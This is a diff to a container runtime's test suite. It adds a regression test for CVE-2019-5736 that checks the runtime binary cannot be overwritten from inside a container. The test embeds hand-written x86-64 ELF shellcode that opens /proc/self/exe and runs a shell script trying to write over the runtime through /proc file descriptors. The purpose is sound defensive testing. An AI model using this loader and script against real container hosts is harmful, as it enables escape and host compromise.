@@ -4,6 +4,8 @@ import asyncio
 import hashlib
 import io
 import os
+import platform
+import struct
 import sys
 import tarfile
 from pathlib import Path
@@ -14,6 +16,7 @@ from agent.container.exec import ExecRequest
 from shoal.errors import ShoalError, StartFailed
 from shoal.model.container import Mount
 from shoal.model.network import NetworkAttachment
+from tests.kernel.container.conftest import keeper_of
 
 pytestmark = pytest.mark.kernel
 
@@ -23,7 +26,7 @@ def digest(path):
 
 
 async def image(engine, name, *entries, changes=()):
-    """The test's busybox with more entries: (name, "link" or "dir", target)."""
+    """The test's busybox with more entries: (name, "link", "dir" or "file", target or content)."""
     from_base = io.BytesIO()
     with tarfile.open(fileobj=from_base, mode="w") as archive:
         archive.add("/bin/busybox", "bin/busybox")
@@ -33,6 +36,10 @@ async def image(engine, name, *entries, changes=()):
             archive.addfile(entry)
         for path, kind, target in entries:
             entry = tarfile.TarInfo(path)
+            if kind == "file":
+                entry.size, entry.mode = len(target), 0o755
+                archive.addfile(entry, io.BytesIO(target))
+                continue
             entry.type, entry.linkname = (tarfile.SYMTYPE, target) if kind == "link" else (tarfile.DIRTYPE, "")
             entry.mode = 0o755
             archive.addfile(entry)
@@ -69,6 +76,55 @@ async def test_a_command_that_is_the_runtime_itself_changes_nothing(engine):
         except ShoalError:
             continue
     assert {path: digest(path) for path in programs} == programs
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the hostile loader is of x86-64's code")
+async def test_the_runtimes_program_can_be_run_inside_but_never_written(engine):
+    """CVE-2019-5736 as it was exploited: a loader of the image's own runs in the runtime's stead and keeps it open."""
+    program = os.open(f"/proc/{keeper_of(engine.paths.run)}/exe", os.O_RDONLY)
+    assert os.fstatvfs(program).f_flag & os.ST_RDONLY  # also when nobody runs it any more
+    before = hashlib.sha256(os.pread(program, 1 << 27, 0)).hexdigest()
+    attack = b"readlink /proc/self/fd/3; for p in /proc/self/fd/3 /proc/$$/exe; do echo x > $p; done; echo tried\n"
+    [interpreter] = interpreters(sys.executable)
+    files = ((interpreter, "file", LOADER), ("attack", "file", attack), ("script", "file", b"#!/proc/self/exe\n"))
+    await image(engine, "loading", ("exe", "link", "/proc/self/exe"), *files)
+    await engine.run("sleep", "100", name="web", image="loading")
+    for command in ("/exe", "/script", "/proc/self/exe"):
+        _, out, err = await engine.output(command, image="loading")
+        assert out.decode().split() == ["/", "tried"], command  # the root of a mount that is in nobody's tree
+        assert err.count(b"Text file busy") + err.count(b"Read-only file system") >= 1, command
+        assert (await said(engine, "web", command))[1].count("tried") == 1, command
+    assert hashlib.sha256(os.pread(program, 1 << 27, 0)).hexdigest() == before
+    os.close(program)
+
+
+def elf(code):
+    """A program of x86-64 that is `code`, loaded where no other is."""
+    base, begin = 0x10000000, 120
+    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, base + begin, 64, 0, 0, 64, 56, 1, 0, 0, 0)
+    size = begin + len(code)
+    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 4096) + code
+
+
+# Opens /proc/self/exe for reading, as descriptor 3, and execs /bin/sh with /attack as its script.
+LOADER = elf(
+    bytes.fromhex(
+        "488d3d3b000000" "31f6" "b802000000" "0f05"
+        "488d3d3a000000" "6a00" "488d0539000000" "50" "57" "4889e6" "31d2" "b83b000000" "0f05"
+        "bf01000000" "b83c000000" "0f05"
+    ).ljust(66, b"\x90")
+    + b"/proc/self/exe\0/bin/sh\0/attack\0"
+)  # fmt: skip
+
+
+def interpreters(path):
+    """The loader that a program names (elf(5), PT_INTERP), as a path of an image."""
+    data = Path(os.path.realpath(path)).read_bytes()
+    offset, size, count = struct.unpack_from("<Q", data, 32)[0], *struct.unpack_from("<HH", data, 54)
+    for at in range(offset, offset + size * count, size):
+        kind, _, begin, _, _, length = struct.unpack_from("<IIQQQQ", data, at)
+        if kind == 3:
+            yield data[begin : begin + length - 1].decode().lstrip("/")
 
 
 def numbers(listing):
